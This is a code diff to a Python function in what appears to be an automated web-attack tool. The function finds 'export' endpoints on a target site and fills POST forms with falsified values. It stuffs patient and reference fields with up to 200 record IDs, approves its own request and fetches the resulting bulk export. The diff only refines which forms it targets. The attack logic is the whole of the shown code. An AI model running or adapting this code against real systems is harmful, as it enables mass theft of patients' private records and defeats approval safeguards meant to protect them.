@@ -90,18 +90,16 @@ def exports(thief: Thief) -> None:
     """Ask for a file with everybody in it, approve it oneself, fetch it."""
     doors = [door for door in thief.known.doors if "export" in door]
     tips = first(thief, 200)
+    everybody = "\n".join(tip.ref for tip in tips)
     for door in doors:
         for tip in tips[:2]:
             answer = thief.get(filled(door, thief, tip), "export")
             for form in page(answer).forms:
-                if form.method == "POST" and not {"password", "code"} & set(form.fields):
+                target = str(answer.url.join(form.action or str(answer.url)))
+                if form.method == "POST" and "export" in target:
                     fields = thief.lie(form, tip)
-                    areas = {
-                        name: "\n".join(one.ref for one in tips)
-                        for name in fields
-                        if "patient" in name or "ref" in name
-                    }
-                    thief.post(str(answer.url.join(form.action or str(answer.url))), "export", {**fields, **areas})
+                    areas = {name: everybody for name in fields if "patient" in name or "ref" in name}
+                    thief.post(target, "export", {**fields, **areas})
     approve(thief)
     for door in doors:
         thief.get(filled(door, thief, tips[0]) if tips else door, "export")
